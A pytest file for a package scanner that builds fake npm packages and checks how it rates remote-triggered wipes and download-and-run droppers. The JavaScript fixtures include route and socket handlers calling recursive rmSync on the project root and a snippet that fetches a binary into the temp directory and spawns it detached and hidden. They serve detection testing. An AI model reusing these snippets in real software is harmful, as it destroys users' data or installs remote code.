# ruff: noqa: E501
"""Remote control shapes by reach and by what the handler is: the severity matrix of the kill-switch rule,
what counts as a handler of network data, and what links a download to its run. The incident replicas
(tests/incidents/replicas/remote.py) cover the real-world shapes."""

from __future__ import annotations

from typing import Any

import pytest

from airlock.analysis import analyze
from airlock.contents import read_tarball
from airlock.model import Severity
from tests.fakes.tarballs import build_package

WIPE = "remote-triggered-destruction"
RUN = "download-run-binary"


def _findings(files: dict[str, str | bytes], **manifest: Any) -> dict[str, Severity]:
    analysis = analyze(read_tarball(build_package("x", "1.0.0", files, **manifest), subject="x"))
    return {f.rule: f.severity for f in analysis.findings}


_ROUTE = (
    "const fs = require('fs');\n"
    "exports.mount = function (app) {\n"
    "  app.post('/internal/reset', (req, res) => {\n"
    "    {condition}fs.rmSync(process.cwd(), {{ recursive: true, force: true }});\n"
    "    res.end();\n"
    "  });\n"
    "};\n"
)


@pytest.mark.parametrize(
    ("path", "condition", "severity"),
    [
        ("index.js", "", Severity.CRITICAL),  # the entry point: registered when the package loads
        ("lib/routes.js", "", Severity.HIGH),  # library code: the caller decides whether the route exists
        ("lib/routes.js", "if (req.query.k === 'zz-91') ", Severity.CRITICAL),  # a hard-coded key
    ],
)
def test_route_wipe_severity(path: str, condition: str, severity: Severity) -> None:
    code = _ROUTE.replace("{condition}", condition).replace("{{", "{").replace("}}", "}")
    assert _findings({path: code}).get(WIPE) == severity


def test_wipe_after_the_handler_closed_is_not_in_it() -> None:
    code = (
        "const fs = require('fs'); const WebSocket = require('ws');\n"
        "const ws = new WebSocket('wss://x.invalid');\n"
        "ws.on('message', (m) => { console.log(String(m)); });\n"
        "exports.reset = () => fs.rmSync(require('os').homedir(), { recursive: true });\n"
    )
    found = _findings({"lib/x.js": code})
    assert WIPE not in found
    assert found.get("recursive-wipe") == Severity.HIGH


def test_project_root_finder_is_a_wide_target() -> None:
    code = (
        "const fs = require('fs'); const path = require('path'); const net = require('net');\n"
        "function top() { let d = __dirname; while (d.includes('node_modules')) d = path.dirname(d); return d; }\n"
        "net.connect(4000, '192.0.2.4').on('data', (buf) => { if (String(buf) === 'x') fs.rmSync(top(), { recursive: true }); });\n"
    )
    assert _findings({"index.js": code}, main="index.js").get(WIPE) == Severity.CRITICAL


def test_rm_rf_star_in_a_named_directory_is_cleanup() -> None:
    code = (
        "const { exec } = require('child_process');\n"
        "module.exports = (app, out) => app.post('/rebuild', (req, res) => exec('rm -rf *', { cwd: out }, () => res.end()));\n"
    )
    assert WIPE not in _findings({"index.js": code})


def test_process_exit_hook_is_not_a_network_handler() -> None:
    code = (
        "const fs = require('fs'); const https = require('https');\n"
        "https.get('https://example.com/ping', () => {});\n"
        "process.on('exit', () => fs.rmSync(process.cwd(), { recursive: true }));\n"
    )
    assert WIPE not in _findings({"index.js": code})


_DROPPER = (
    "const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');\n"
    "const { spawn } = require('child_process');\n"
    "const target = path.join(os.tmpdir(), 'updater');\n"
    "https.get('https://cdn.example.com/u', (res) => { const out = fs.createWriteStream(target); res.pipe(out);\n"
    "  out.on('finish', () => { {run} }); });\n"
)


@pytest.mark.parametrize(
    ("path", "run", "severity"),
    [
        ("index.js", "spawn(target, [], { detached: true, stdio: 'ignore' }).unref();", Severity.CRITICAL),
        ("lib/update.js", "spawn(target, [], { detached: true, stdio: 'ignore' }).unref();", Severity.HIGH),
        ("index.js", "spawn('tar', ['-xf', target]);", None),  # handed to another program, not run
        # a downloaded script run by an interpreter is run
        ("index.js", "spawn(process.execPath, [target], { detached: true }).unref();", Severity.CRITICAL),
        (
            "index.js",
            "require('child_process').exec('node ' + target, { windowsHide: true });",
            Severity.CRITICAL,
        ),
    ],
)
def test_download_run_severity(path: str, run: str, severity: Severity | None) -> None:
    assert _findings({path: _DROPPER.replace("{run}", run)}, main="index.js").get(RUN) == severity


def test_checksum_verified_download_is_an_installer() -> None:
    code = _DROPPER.replace(
        "{run}",
        "const h = require('crypto').createHash('sha256').update(fs.readFileSync(target)).digest('hex');"
        " if (h === 'ab') spawn(target, [], { stdio: 'ignore' });",
    )
    assert RUN not in _findings({"index.js": code}, main="index.js")
